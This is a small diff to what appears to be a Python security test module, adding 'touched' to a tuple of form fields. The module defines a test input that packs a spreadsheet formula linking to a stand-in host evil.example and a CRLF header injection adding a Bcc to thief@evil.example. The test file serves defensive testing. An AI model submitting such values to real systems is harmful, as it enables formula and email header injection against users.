@@ -28,7 +28,7 @@ from tests.security.odd_requests import CANARY, Route, pages_of, routes_of
 from tests.security.world import World
 
 TYPED = f'=HYPERLINK("http://evil.example/x","y"){CANARY}7>\r\nBcc: thief@evil.example\r\n\r\n云'
-NOT_TYPED = ("csrf", "tab", "seen", "draft", "went_on_from")
+NOT_TYPED = ("csrf", "tab", "seen", "draft", "went_on_from", "touched")
 """What forms carry for us; whoever changes these is refused."""
 WRITTEN = ("text", "reason", "why", "note", "opinion", "answer", "remark")
 """Fields that some forms want filled in, whatever else is typed."""
